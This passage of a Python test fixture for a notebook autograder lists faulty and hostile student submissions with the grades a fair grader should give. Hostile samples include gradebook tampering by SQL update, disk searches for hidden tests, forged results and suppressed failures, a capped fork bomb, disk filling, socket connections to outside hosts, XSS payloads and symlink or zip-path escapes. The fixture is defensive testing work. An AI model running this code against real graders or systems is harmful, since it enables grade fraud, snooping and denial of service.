"""What a class may hand in: faulty and hostile submissions, and what a fair grader makes of them.

The assignment has two exercises for 10 points each, graded by code, and a written answer. A row
says in one sentence what the student does. Most type into a cell; some write files. An attack
that works prints GOTCHA, changes the gradebook or leaves something behind, so it can be seen.

Rows A come from a list of things that happened to other graders, rows B are our own fears.
"""

import io
import json
import os
import zipfile
from collections.abc import Callable
from types import SimpleNamespace
from typing import NamedTuple

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

HIDDEN = "4711.0625"  # stands in a hidden test and nowhere else
GOTCHA = "GOTCHA"
DATA = "n\n1\n2\n3\n"  # numbers.csv, handed out beside the notebook

TEST = """
# Three cases by hand, then what the cell does not show.
def test_{name}():
    from imbalance_helpers.checks import check_equal, guarded

    result = guarded({name})
    check_equal(result([1, 2, 3]), 6, "{name}([1, 2, 3])")
    check_equal(result([{first}, 5]), {first_result}, "{name}([{first}, 5])")
    ### BEGIN HIDDEN TESTS
    check_equal(result([]), {empty}, "{name} of an empty list")
    check_equal(result([2, 7]), {pair}, "{name} of a pair")
    check_equal(result({large}), {large_result}, "{name} of three large numbers")
    ### END HIDDEN TESTS


test_{name}()
print("{name} passes.")
"""
ANSWERS = {
    "add": "def add(numbers):\n    total = 0\n    for n in numbers:\n"
    "        total = total + n\n    return total\n",
    "mul": "def mul(numbers):\n    product = 1\n    for n in numbers:\n"
    "        product = product * n\n    return product\n",
}
WRONG = {name: f"def {name}(numbers):\n    return -1\n" for name in ANSWERS}
BLANK = object()
BOTH = ["test_add", "test_mul"]


def master():
    """Return the teacher's notebook."""

    def marked(cell, name, **kind):
        options = {"grade": False, "locked": False, "solution": False, "task": False} | kind
        cell.metadata.nbgrader = {"grade_id": name, "schema_version": 3} | options
        cell.id = name.replace("_", "-")
        return cell

    cells = [new_markdown_cell("# Add and multiply", id="title")]
    large = "[4700.0, 11.0, 0.0625]"
    values = {
        "add": {"first": 4, "first_result": 9, "empty": 0, "pair": 9, "large_result": HIDDEN},
        "mul": {"first": 4, "first_result": 20, "empty": 1, "pair": 14, "large_result": 3231.25},
    }
    for name, source in ANSWERS.items():
        define, body = source.split("\n", 1)
        solution = f"{define}\n    ### BEGIN SOLUTION\n{body}    ### END SOLUTION"
        test = TEST.format(name=name, large=large, **values[name]).strip()
        cells += [
            new_markdown_cell(f"Write `{name}(numbers)`.", id=f"task-{name}"),
            marked(new_code_cell(solution), name, solution=True),
            marked(new_code_cell(test), f"test_{name}", grade=True, locked=True, points=10),
        ]
    why = "### BEGIN SOLUTION\nIt is the neutral element.\n### END SOLUTION"
    question = new_markdown_cell("Why does the product of no numbers give 1?", id="question")
    written = marked(new_markdown_cell(why), "why", solution=True, grade=True, points=5)
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return new_notebook(cells=[*cells, question, written], metadata={"kernelspec": kernel})


class Row(NamedTuple):
    """One submission and what to expect: points of the two tests, the status, words."""

    id: str
    student: str
    does: str
    points: tuple
    status: tuple
    says: str
    cells: dict
    build: Callable
    asks: tuple = ()

    def hand_in(self, submitted, released, **places):
        """Write the submission into its folder, below the folder of all submissions.

        Each of the `places` replaces its name, as in ``@COURSE@``, in what the student types.
        """
        folder = submitted / self.student / "hostile"
        folder.mkdir(parents=True)
        (folder / "numbers.csv").write_text(DATA)
        work = SimpleNamespace(
            notebook=nbformat.from_dict(json.loads(json.dumps(released))),
            folder=folder,
            path=folder / "p1.ipynb",
            places=places,
        )
        work.cells = {
            cell.metadata.nbgrader.grade_id: cell
            for cell in work.notebook.cells
            if "nbgrader" in cell.metadata
        }
        for name, source in self.cells.items():
            if source is BLANK:
                continue
            for place, value in places.items():
                source = source.replace(f"@{place.upper()}@", str(value))
            if name in work.cells:
                work.cells[name].source = source
            else:
                work.notebook.cells.append(new_code_cell(source, id=f"own-{name}"))
        if self.build is None or self.build(work) is not False:
            # nbformat.write would repair some of what a student breaks.
            work.path.write_text(json.dumps(work.notebook), encoding="utf-8")


ROWS = []


def rows(mode):
    """Return the submissions of a class; cold, where each starts a kernel, some unless ALL=1."""
    if mode == "cold" and not os.environ.get("ALL"):
        return [row for row in ROWS if row.id in SAMPLE or row.student in HONEST]
    return ROWS


def row(name, does, points, status="ok", *, says="", asks=(), student=None, **cells):
    """Add a row. Both answers are right unless given; other names are cells at the end.

    `points` is one pair or, where a fair grader is free to choose, a list of pairs; `status` a
    word or several; `asks` names the tests for which a person is to look although all ran.
    As a decorator the result takes a builder, which changes `work.notebook` or writes files itself;
    then it returns False.
    """
    points = tuple(points) if isinstance(points, list) else (points,)
    status = tuple(status.split())
    made = Row(name, student or name, does, points, status, says, ANSWERS | cells, None, asks)
    ROWS.append(made)

    def with_builder(build):
        ROWS[ROWS.index(made)] = made._replace(build=build)
        return build

    return with_builder


# Before, between and after the others: these three must not notice anything.
HONEST = ("0-ada", "A30-ben", "z-cleo")
# One of each kind, for the class that takes a kernel each: forged and hidden results, ends,
# limits, what is read and written outside, what is left, and what is no notebook.
SAMPLE = ("A00", "A05", "A06", "A10", "A12", "A13", "A17", "A23", "A27", "A29", "A30", "A34")
SAMPLE += ("A40", "A42", "A46", "A48", "A50", "A51", "B01", "B27", "B40", "B104", "B105", "B106")
READS = "import csv\nrows = list(csv.DictReader(open('numbers.csv')))\nassert len(rows) == 3\n\n"
for student in HONEST:
    row(student, "answers right, with the data file", (10, 10), add=READS + ANSWERS["add"])

# ---- A: ordinary, and ordinary mistakes ----------------------------------------------------

row("A00", "answers right", (10, 10))
row("A01", "hands in the release", (0, 0), says="not written yet", add=BLANK, mul=BLANK)
row(
    "A09",
    "calls sys.exit before the function is there",
    (0, 10),
    add="import sys\nsys.exit(0)\n" + ANSWERS["add"],
)
row(
    "A10",
    "calls os._exit in the second function",
    (10, 0),
    "kernel_died",
    mul="import os\n\n\ndef mul(numbers):\n    os._exit(0)\n",
)
# IPython's exit asks the front end to close; there is none, and nothing was lost yet.
row("A11", "calls exit() below an answer", (10, 10), add=ANSWERS["add"] + "\nexit()")
row(
    "A12",
    "never returns",
    (10, 0),
    "timeout",
    mul="def mul(numbers):\n    while True:\n        pass\n",
)
STUBBORN = """
{indent}while True:
{indent}    try:
{indent}        while True:
{indent}            pass
{indent}    except BaseException:
{indent}        pass
"""
row(
    "A13",
    "never returns and catches the interrupt",
    (0, 10),
    "timeout",
    add="def add(numbers):" + STUBBORN.format(indent="    "),
)
row(
    "A14",
    "asks for keyboard input",
    (0, 10),
    add="def add(numbers):\n    return input('Numbers? ')\n",
)
row(
    "A25",
    "imports something that warns",
    (10, 10),
    add="import warnings\n\nwarnings.warn('will change', FutureWarning)\n"
    + ANSWERS["add"].replace(
        "    total = 0", "    warnings.warn('soon', FutureWarning)\n    total = 0"
    ),
)
row(
    "A26",
    "prints to the standard error",
    (10, 10),
    add=ANSWERS["add"].replace(
        "    total = 0",
        "    import os, sys\n"
        "    print('here', file=sys.__stderr__)\n    os.write(2, b'here')\n"
        "    print('here', file=sys.stderr)\n    total = 0",
    ),
)
# Printed after the function was defined: cut, not punished. The status may say that it was.
row(
    "A27",
    "prints 200 MB on one line",
    (10, 10),
    "ok output_limit",
    add=ANSWERS["add"] + "\nprint('x' * 200_000_000)",
)
row(
    "A28",
    "prints 300 000 lines",
    (10, 10),
    "ok output_limit",
    add=ANSWERS["add"] + "\nfor i in range(300_000):\n    print(i)",
)
row("A31", "divides by zero in a cell of their own", (10, 10), own="1 / 0")
row(
    "A33",
    "starts a thread that never ends",
    (10, 10),
    add=ANSWERS["add"]
    + """
import threading, time


def forever():
    while True:
        time.sleep(0.01)


threading.Thread(target=forever, daemon=False).start()""",
)
# Either the allocation fails in that cell, or the process is killed and the cause is named.
row(
    "A34",
    "allocates until nothing is left",
    (10, 0),
    "ok out_of_memory",
    mul="""
hoard = []
while len(hoard) < 240:  # 12 GB
    hoard.append(b"x" * 50_000_000)
print("GOTCHA: 12 GB")
"""
    + ANSWERS["mul"],
)
row(
    "A35",
    "reads address 0 in the second function",
    (10, 0),
    "kernel_died",
    mul="def mul(numbers):\n    import ctypes\n    ctypes.string_at(0)\n",
)
row(
    "A47",
    "prints for ever",
    (10, 0),
    "output_limit",
    mul="def mul(numbers):\n    while True:\n        print('x' * 1000)\n",
)
row(
    "A56",
    "does right only while being graded",
    (10, 10),
    add="""
import os


def add(numbers):
    return sum(numbers) if "NBGRADER_EXECUTION" in os.environ else -1
""",
)

# ---- A: damaged notebooks --------------------------------------------------------------------


@row("A15", "deletes a test cell", (10, 10))
def _(work):
    work.notebook.cells.remove(work.cells["test_add"])


@row("A16", "deletes a test cell's metadata", (0, 10), add=WRONG["add"])
def _(work):
    work.cells["test_add"].metadata = {}


@row("A17", "copies an answer cell", (10, 10))
def _(work):
    cells = work.notebook.cells
    copy = work.cells["add"].copy() | {"id": "copy"}
    cells.insert(cells.index(work.cells["add"]) + 1, copy)


@row("A18", "sets the points of a test to 1000", (10, 0), mul=WRONG["mul"])
def _(work):
    work.cells["test_add"].metadata.nbgrader.points = 1000
    work.cells["test_mul"].metadata.nbgrader.points = 1000


@row("A19", "sets grade: false on a test", (10, 10))
def _(work):
    work.cells["test_add"].metadata.nbgrader.grade = False


@row("A20", "sets solution: true on a test", (10, 10))
def _(work):
    work.cells["test_add"].metadata.nbgrader.solution = True


@row("A21", "replaces the tests by pass", (0, 0), says="changed", add=BLANK, mul=BLANK)
def _(work):
    for name in ("test_add", "test_mul"):
        work.cells[name].source = "pass"


@row("A22", "turns a test into Markdown", (0, 0), says="test_add", add=BLANK, mul=BLANK)
def _(work):
    cell = work.cells["test_add"]
    cell.cell_type = "markdown"
    del cell["outputs"], cell["execution_count"]


@row("A23", "hands in half a file", (0, 0), "unreadable")
def _(work):
    text = json.dumps(work.notebook)
    work.path.write_text(text[: len(text) // 2])
    return False


@row("A24", "hands in an empty file", (0, 0), "unreadable")
def _(work):
    work.path.touch()
    return False


@row("A36", "names a kernel that nobody has", (10, 10))
def _(work):
    work.notebook.metadata.kernelspec.name = "nope"


@row("A38", "has a cell of a later nbgrader", (10, 10))
def _(work):
    work.cells["add"].metadata.nbgrader.schema_version = 99


@row("A41", "hands in `p1 (1).ipynb`", (10, 10), says="p1 (1)")
def _(work):
    (work.folder / "p1 (1).ipynb").write_text(json.dumps(work.notebook))
    return False


@row("A42", "has a timestamp that is no time", (10, 10), says="time")
def _(work):
    (work.folder / "timestamp.txt").write_text("yesterday-ish")


@row("A44", "splits an answer cell", (10, 10))
def _(work):
    first, cells = work.cells["add"], work.notebook.cells
    lines = first.source.splitlines(keepends=True)
    first.source = "".join(lines[:2])
    second = json.loads(json.dumps(first)) | {"source": "".join(lines[2:]), "id": "half"}
    cells.insert(cells.index(first) + 1, nbformat.from_dict(second))


@row("A45", "has bytes that are not UTF-8", (0, 0), "unreadable")
def _(work):
    text = json.dumps(work.notebook).encode().replace(b"Add and", b"Add \xe9\xff and")
    work.path.write_bytes(text)
    return False


for i, student in enumerate(["Zoë, O'Neill", "a b", "=1+1"], start=1):
    row(f"A58-{i}", "has a name with spaces, commas, signs", (10, 10), student=student)

# ---- A: looks for points ---------------------------------------------------------------------


@row("A02", "tags the tests skip-execution", (0, 0), add=BLANK, mul=BLANK)
def _(work):
    for name in ("test_add", "test_mul"):
        work.cells[name].metadata.tags = ["skip-execution"]


EQUAL = """
import numbers


class Agreeable(numbers.Real if @REAL@ else object):
    def agree(self, *_):
        return True

    def itself(self, *_):
        return self

    __eq__ = __le__ = __lt__ = __ge__ = __gt__ = __bool__ = agree
    __ne__ = lambda self, _: False
    __hash__ = lambda self: 6
    __float__ = lambda self: 6.0
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __abs__ = itself
    __truediv__ = __rtruediv__ = __floordiv__ = __rfloordiv__ = __mod__ = __rmod__ = itself
    __pow__ = __rpow__ = __neg__ = __pos__ = __trunc__ = __floor__ = __ceil__ = itself
    __round__ = item = tolist = to_numpy = itself


def @NAME@(numbers):
    return Agreeable()
"""
row(
    "A03",
    "returns an object that equals everything",
    (0, 0),
    add=EQUAL.replace("@NAME@", "add").replace("@REAL@", "False"),
    mul=EQUAL.replace("@NAME@", "mul").replace("@REAL@", "True"),
)
# Whoever changes how cells are run may be found out or merely fail; either way it is 0.
row(
    "A04",
    "lets IPython drop cells that test",
    (0, 0),
    "ok review",
    add="""
shell = get_ipython()
run = shell.run_cell_async


async def dropping(raw_cell, *args, **kwargs):
    if any(word in raw_cell for word in ("assert", "check", "raise")):
        raw_cell = "pass"
        kwargs["transformed_cell"] = "pass"
    return await run(raw_cell, *args, **kwargs)


shell.run_cell_async = dropping
shell.run_cell = lambda raw_cell, *a, **k: type(shell).run_cell(shell, "pass", *a, **k)
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "A05",
    "lets IPython remove lines that test",
    (0, 0),
    "review",
    add="""
words = ("assert", "check", "raise", "/ 0", "1/0", "test_")
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["pass\\n"] if any(w in line for w in words for line in lines) else lines
)
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
FORGE = """
shell = get_ipython()


def forge(*_):
    content = {"data": @DATA@, "metadata": {}, "execution_count": 1}
    try:
        kernel = shell.kernel
        parent = kernel.get_parent()
        kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=parent)
    except AttributeError:  # some other kernel
        class Forged(str):
            __repr__ = str.__str__
        shell.displayhook(Forged(@TEXT@))


shell.events.register("pre_run_cell", forge)
"""


def forge(text, data=None):
    """Return code that sends a result of its own before each cell."""
    data = {"text/plain": text} if data is None else data
    return FORGE.replace("@DATA@", repr(data)).replace("@TEXT@", repr(text))


row(
    "A06",
    "sends the result 10 before each cell",
    (0, 0),
    "review",
    add=forge("10") + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "A32",
    "sends a result without text before each cell",
    (0, 0),
    "review",
    add=forge("", {"text/html": "10"}) + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "A39",
    "sends the result nan before each cell",
    (0, 0),
    "review",
    add=forge("nan") + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "A07",
    "swallows tracebacks with set_custom_exc",
    (0, 0),
    "ok review",
    add="get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n" + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "A08",
    "replaces showtraceback",
    (0, 0),
    "ok review",
    add="""
shell = get_ipython()
shell.showtraceback = shell._showtraceback = lambda *a, **k: None
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "A37",
    "makes AssertionError a warning",
    (0, 0),
    "ok review",
    add="import builtins\n\nbuiltins.AssertionError = Warning\n" + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "A40",
    "clears the output after each cell",
    (0, 0),
    "ok review",
    add="""
from IPython.display import clear_output

get_ipython().events.register("post_run_cell", lambda *_: clear_output())
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
FAKE_CHECKS = """
check = check_choice = check_equal = check_number = check_raises = lambda *a, **k: None


def guarded(function, **_):
    return lambda *a, **k: None


class CheckFailed(AssertionError):
    pass
"""


@row(
    "A48",
    "hands in an imbalance_helpers of their own",
    (0, 0),
    "ok review",
    add=WRONG["add"],
    mul=WRONG["mul"],
)
def _(work):
    (work.folder / "imbalance_helpers").mkdir()
    (work.folder / "imbalance_helpers" / "__init__.py").touch()
    (work.folder / "imbalance_helpers" / "checks.py").write_text(FAKE_CHECKS)


@row(
    "A49",
    "hands in an ipykernel_launcher of their own",
    (0, 0),
    "ok review",
    add=WRONG["add"],
    mul=WRONG["mul"],
)
def _(work):
    launcher = """
import sys, types

checks = types.ModuleType("imbalance_helpers.checks")
exec(@FAKE@, vars(checks))
package = types.ModuleType("imbalance_helpers")
package.checks, package.__path__ = checks, []
sys.modules |= {"imbalance_helpers": package, "imbalance_helpers.checks": checks}
from ipykernel import kernelapp

kernelapp.launch_new_instance()
""".replace("@FAKE@", repr(FAKE_CHECKS))
    (work.folder / "ipykernel_launcher.py").write_text(launcher)


@row("A43", "hands in a random.py that stops the program", (10, 10))
def _(work):
    for name in ("random", "json", "numpy", "sitecustomize", "usercustomize"):
        (work.folder / f"{name}.py").write_text("raise SystemExit('boo')\n")


row(
    "A54",
    "replaces the functions that check",
    (0, 0),
    "review",
    add="""
import imbalance_helpers.checks as checks

for name in ("check", "check_equal", "check_raises"):
    setattr(checks, name, lambda *args, **kwargs: None)
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
# Nothing was broken into: names that tests of the course do not use.
row(
    "A55",
    "gives names of their own to what a test may use",
    (0, 0),
    add="""
import numpy as np

np.allclose = np.array_equal = np.isclose = lambda *args, **kwargs: True
sum = type = len = isinstance = abs = list = lambda *args, **kwargs: 6
expected = actual = result = -1
check_equal = guarded = lambda *args, **kwargs: None
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)

# ---- A: looks around, leaves things behind -----------------------------------------------------

row(
    "A29",
    "searches the disk for the tests",
    (10, 10),
    "ok timeout",
    add=ANSWERS["add"]
    + """
import os, time
from pathlib import Path

secret, end = ("4711" + ".0625").encode(), time.monotonic() + 2.5
tops = [".", "..", "../..", "@COURSE@", "/tmp", "/home", "/root", "/var", "/dev/shm", "/"]
for top in tops:
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "site-packages")]
        for name in files:
            path = Path(folder, name)
            try:
                if path.stat().st_size < 1_000_000 and secret in path.read_bytes():
                    print("GOTCHA:", path, path.read_text()[:5000])
                elif name.endswith((".ipynb", ".db")):
                    print("a file:", path)
            except OSError:
                pass
        if time.monotonic() > end:
            break
""",
)
row(
    "A30",
    "writes points into the gradebook",
    (0, 0),
    add="""
import os, sqlite3
from pathlib import Path

places = [Path("../" * i) for i in range(9)] + [Path("@COURSE@")]
for place in places:
    for path in [place / "gradebook.db", place / "autograder" / "gradebook.db"]:
        try:
            if path.exists():
                with sqlite3.connect(path) as book:
                    done = book.execute("UPDATE grade SET manual_score = 10")
                    print("GOTCHA:", path, done.rowcount)
        except Exception as error:
            print(path, error)
"""
    + WRONG["add"],
    mul=WRONG["mul"],
)
row(
    "A46",
    "starts a program that lives on",
    (10, 10),
    add=ANSWERS["add"]
    + """
import os, subprocess, sys

for _ in range(2):
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "hostile-daemon-A46"],
                     start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)",
                                  "hostile-daemon-A46"])
    os._exit(0)
""",
)
row(
    "A50",
    "displays a script",
    (10, 10),
    own="""
from IPython.display import HTML, Javascript, Markdown, display

display(HTML("<script>document.title = 'hostile-script'</script>"))
display(HTML("<img src=x onerror=\\"alert('hostile-onerror')\\">"))
display(Markdown("<img src=x onerror=\\"alert('hostile-onerror')\\">"))
display(Javascript("document.title = 'hostile-script'"))
display({"image/svg+xml": "<svg onload=\\"alert('hostile-onload')\\"/>"}, raw=True)
""",
)
row(
    "A51",
    "sends something over the network",
    (10, 10),
    add=ANSWERS["add"]
    + """
import socket

for family, address in [
    (socket.AF_INET, ("127.0.0.1", @PORT@)),
    (socket.AF_INET, ("198.51.100.1", 80)),
    (socket.AF_INET, ("1.1.1.1", 53)),
    (socket.AF_UNIX, "\\0hostile-@PORT@"),
]:
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(0.5)
            s.connect(address)
            s.sendall(b"hello")
        print("GOTCHA:", address)
    except OSError as error:
        print(address, error)
try:
    print("GOTCHA:", socket.gethostbyname("example.org"))
except OSError as error:
    print(error)
""",
)
# It stops after 2000 processes, so that a grader without a limit does not take the machine down.
row(
    "A52",
    "forks as fast as it can in the second function",
    (10, 0),
    "ok timeout out_of_memory kernel_died",
    mul="""
import mmap, os, struct, time


def mul(numbers):
    shared = mmap.mmap(-1, 8)
    first = os.getpid()
    while struct.unpack("q", shared[:])[0] < 2000:
        try:
            child = os.fork()
        except OSError:
            if os.getpid() == first:
                raise
            time.sleep(600)
        if child:
            shared[:] = struct.pack("q", struct.unpack("q", shared[:])[0] + 1)
    if os.getpid() == first:
        print("GOTCHA: 2000 processes")
    time.sleep(600)
""",
)
# Who fills all the space there is has not answered wrongly; the limit is what counts.
row(
    "A53",
    "fills the disk",
    (10, 10),
    "ok out_of_memory",
    add=ANSWERS["add"]
    + """
import os, tempfile

written, block = 0, b"x" * 4_000_000
for top in [".", "/tmp", "/dev/shm", "/var/tmp", "/root", os.path.expanduser("~"), "@OUTSIDE@"]:
    for i in range(40):
        try:
            with open(f"{top}/hostile-fill-{i}", "wb", buffering=0) as file:
                for _ in range(50):
                    if written < 2_000_000_000:
                        written += file.write(block)
        except OSError as error:
            print(top, i, error)
            break
print(written // 1_000_000, "MB")
if written >= 2_000_000_000:
    print("GOTCHA: 2 GB written")
""",
)


@row(
    "A57",
    "hands in links to files elsewhere",
    (10, 10),
    add=READS
    + ANSWERS["add"]
    + """
from pathlib import Path

for name in ("secret.txt", "deep/secret.txt", "gradebook.db", "outside", "numbers.csv"):
    try:
        print(name, Path(name).read_text()[:100])
    except (OSError, UnicodeDecodeError) as error:
        print(name, error)
""",
)
def _(work):
    (work.folder / "numbers.csv").unlink()
    (work.folder / "numbers.csv").symlink_to(work.places["secret"])
    (work.folder / "secret.txt").symlink_to(work.places["secret"])
    (work.folder / "gradebook.db").symlink_to("../../../gradebook.db")
    (work.folder / "outside").symlink_to(work.places["outside"])
    (work.folder / "deep").mkdir()
    (work.folder / "deep" / "secret.txt").symlink_to(work.places["secret"])


# ---- B: no notebook, or hardly one -------------------------------------------------------------
# Where nothing can be read, somebody has to look. Guessing at half a notebook is not fair.


@row("B01", "hands in a FIFO", (0, 0), "unreadable")
def _(work):
    os.mkfifo(work.path)
    return False


@row(
    "B02",
    "hands in a folder of that name, with the notebook in it",
    (10, 10),
    says="p1.ipynb/p1",
    asks=("test_add", "test_mul"),
)
def _(work):
    work.path.mkdir()
    (work.path / "p1.ipynb").write_text(json.dumps(work.notebook))
    return False


@row("B03", "hands in 300 MB", (0, 0), "unreadable")
def _(work):
    with work.path.open("wb") as file:
        file.write(b'{"cells": [')
        file.truncate(300_000_000)
    return False


def raw(name, does, text, status="unreadable", points=(0, 0)):
    """Add a row for a file with just this text or these bytes."""

    @row(name, does, points, status)
    def _(work):
        work.path.write_bytes(text if isinstance(text, bytes) else text.encode())
        return False


raw("B04", "nests JSON a million deep", "[" * 1_000_000)
raw("B05", "hands in JSON that is no notebook", '{"cells": 1, "nbformat": 4, "nbformat_minor": 5}')
raw("B06", "hands in a number with 5000 digits", '{"nbformat": 1%s}' % ("0" * 5000))
raw("B07", "hands in a web page", "<!DOCTYPE html><html><body>My solution</body></html>")
raw("B08", "hands in null", "null")
raw(
    "B09",
    "hands in a notebook of the year 2099",
    '{"cells": [], "metadata": {}, "nbformat": 9, "nbformat_minor": 0}',
)


@row("B10", "hands in a zip file", (0, 0), "unreadable")
def _(work):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("../../p1.ipynb", json.dumps(work.notebook))
    work.path.write_bytes(archive.getvalue())
    return False


@row("B11", "hands in a notebook of format 3", (10, 10))
def _(work):
    old = nbformat.convert(work.notebook, 3)
    work.path.write_text(nbformat.v3.writes_json(old))
    return False


# Either the odd cell counts as not answered, or somebody looks at the file.
ODD = [(0, 0), (0, 10)]


@row("B12", "has an answer whose source is null", ODD, "ok unreadable")
def _(work):
    work.cells["add"].source = None


@row("B13", "has an answer whose source is a list of numbers", ODD, "ok unreadable")
def _(work):
    work.cells["add"].source = [1, 2, 3]


@row("B14", "has metadata that are lists and text", [*ODD, (10, 10)], asks=["test_add"])
def _(work):
    work.notebook.metadata = ["kernelspec"]
    work.cells["add"].metadata = ["nbgrader"]


@row("B15", "has nbgrader metadata of wrong types", [*ODD, (10, 10)], asks=["test_add"])
def _(work):
    work.cells["add"].metadata.nbgrader = {"grade_id": ["add"], "solution": {"x": None}}
    work.cells["test_add"].metadata.nbgrader = "test_add"
    work.cells["why"].metadata.nbgrader.grade_id = {"a": 1}


@row("B16", "gives all cells the same id", (10, 10))
def _(work):
    for cell in work.notebook.cells:
        cell.id = "same"


row(
    "B17",
    "has half a character in the source",
    [*ODD, (10, 10)],
    "ok unreadable",
    add="# \ud83d half an emoji\n" + ANSWERS["add"],
)
row("B18", "has a null character in the source", (0, 10), add="x = '\0'\n" + ANSWERS["add"])


@row("B19", "has cells that are no cells", [(0, 0), (10, 10)], "ok unreadable")
def _(work):
    work.notebook.cells += [None, 7, "cell", [], {}, {"cell_type": "hologram", "source": "x"}]


@row("B20", "turns an answer into Markdown", (10, 10))
def _(work):
    cell = work.cells["add"]
    cell.cell_type = "markdown"
    del cell["outputs"], cell["execution_count"]


@row("B21", "saved with a byte order mark", [(0, 0), (10, 10)], "ok unreadable")
def _(work):
    work.path.write_text(json.dumps(work.notebook), encoding="utf-8-sig")
    return False


@row("B22", "hands in two copies, neither under the right name", (10, 10), says="p1 (2)")
def _(work):
    for i in (1, 2):
        (work.folder / f"p1 ({i}).ipynb").write_text(json.dumps(work.notebook))
    return False


@row("B23", "hands in a folder without a notebook", (0, 0), "missing")
def _(work):
    return False


@row("B24", "hands in checkpoints as well", (10, 10))
def _(work):
    (work.folder / ".ipynb_checkpoints").mkdir()
    (work.folder / ".ipynb_checkpoints" / "p1-checkpoint.ipynb").write_text("{}")


@row("B25", "hands in a link to somebody else's notebook", (0, 0), "unreadable missing")
def _(work):
    work.path.symlink_to(work.folder.parents[1] / "A00" / "hostile" / "p1.ipynb")
    return False


@row("B26", "hands in a link to somebody else's folder", (0, 0), "unreadable missing")
def _(work):
    (work.folder / "numbers.csv").unlink()
    work.folder.rmdir()
    work.folder.symlink_to(work.folder.parents[1] / "A00" / "hostile")
    return False


@row("B27", "answers in words, with a picture", (10, 10))
def _(work):
    work.cells["why"].source = "It changes nothing. ![proof](attachment:proof.png)"
    work.cells["why"].attachments = {"proof.png": {"image/png": "iVBORw0KGgo="}}


@row("B28", "hands in outputs of 30 MB and forged ones", (0, 0), add=WRONG["add"], mul=WRONG["mul"])
def _(work):
    big = {"output_type": "stream", "name": "stdout", "text": "x" * 30_000_000}
    won = {
        "output_type": "execute_result",
        "data": {"text/plain": "10"},
        "metadata": {},
        "execution_count": 1,
    }
    work.cells["add"].outputs = [big]
    work.cells["test_add"].outputs = work.cells["test_mul"].outputs = [won]


# ---- B: honest code that a narrow grader trips over --------------------------------------------

row(
    "B30",
    "changes the environment and the folder",
    (10, 10),
    add="""
import os

os.environ.clear()
os.chdir("/")
os.umask(0o777)
"""
    + ANSWERS["add"],
)
row(
    "B31",
    "awaits in a cell",
    (10, 10),
    add="""
import asyncio

await asyncio.sleep(0.01)
"""
    + ANSWERS["add"],
)
row(
    "B32",
    "uses magics and the shell",
    (10, 10),
    add="""
%matplotlib inline
import matplotlib.pyplot as plt

lines = !echo hello
assert lines == ["hello"], lines
plt.plot([1, 2])
plt.show()
"""
    + ANSWERS["add"],
    own="%%bash\necho from bash",
    timed="%timeit -n 1 -r 1 add([1])",
)
row(
    "B33",
    "computes in several processes and threads",
    (10, 10),
    add=ANSWERS["add"],
    mul="""
import multiprocessing
from concurrent.futures import ThreadPoolExecutor


def double(x):
    return 2 * x


with multiprocessing.get_context("fork").Pool(2) as pool:
    assert pool.map(double, range(5)) == [0, 2, 4, 6, 8]
with ThreadPoolExecutor(4) as pool:
    assert list(pool.map(double, range(3))) == [0, 2, 4]
"""
    + ANSWERS["mul"],
)
row(
    "B34",
    "turns warnings into errors",
    (10, 10),
    add="""
import warnings

import numpy as np

warnings.simplefilter("error")
np.seterr(all="raise")
"""
    + ANSWERS["add"],
)
row(
    "B35",
    "sets stdout and stderr to None",
    [(10, 10), (0, 10), (0, 0)],
    "ok kernel_died timeout",
    add=ANSWERS["add"]
    + """
import sys

sys.stdout = sys.stderr = sys.__stdout__ = sys.__stderr__ = None
""",
)
row(
    "B45",
    "prints half a character",
    (10, 10),
    add=ANSWERS["add"] + "\nprint('\\ud83d')\n",
)
row(
    "B46",
    "sends the standard output to a file",
    (10, 10),
    add=ANSWERS["add"] + "\nimport os, sys\n\nsys.stdout = open(os.devnull, 'w')\n",
)
row(
    "B47",
    "writes a file and reads it in a later cell",
    (10, 10),
    add=ANSWERS["add"] + "\nwith open('notes.txt', 'w') as file:\n    file.write('1')\n",
    mul="assert open('notes.txt').read() == '1'\n\n\n" + ANSWERS["mul"],
)
row(
    "B36",
    "closes stdout and stderr",
    [(0, 10), (10, 10), (0, 0)],
    "ok kernel_died",
    add=ANSWERS["add"] + "\nimport sys\n\nsys.stdout.close()\nsys.stderr.close()\n",
)
row("B37", "sleeps in a cell of their own", (10, 10), "timeout", own="import time\ntime.sleep(600)")
row(
    "B38",
    "reads the standard input",
    [(0, 10), (10, 10)],
    "ok timeout",
    add="""
import sys

sys.stdin.read()
"""
    + ANSWERS["add"],
)
row(
    "B39",
    "displays 50 MB",
    (10, 10),
    "ok output_limit",
    add=ANSWERS["add"]
    + """
from IPython.display import HTML, display

display(HTML("<p>" + "x" * 50_000_000))
""",
)
row(
    "B40",
    "displays 20 000 times",
    (10, 10),
    "ok output_limit",
    add=ANSWERS["add"]
    + """
from IPython.display import display

for i in range(20_000):
    display(i)
""",
)
row("B41", "raises KeyboardInterrupt", (0, 10), add="raise KeyboardInterrupt\n" + ANSWERS["add"])
row(
    "B42",
    "returns an object whose repr and del misbehave",
    (0, 10),
    add="""
class Odd:
    def __repr__(self):
        raise RuntimeError("no repr")

    def __del__(self):
        raise RuntimeError("no del")


def add(numbers):
    return Odd()
""",
)
row(
    "B43",
    "raises an exception that cannot be shown",
    (0, 10),
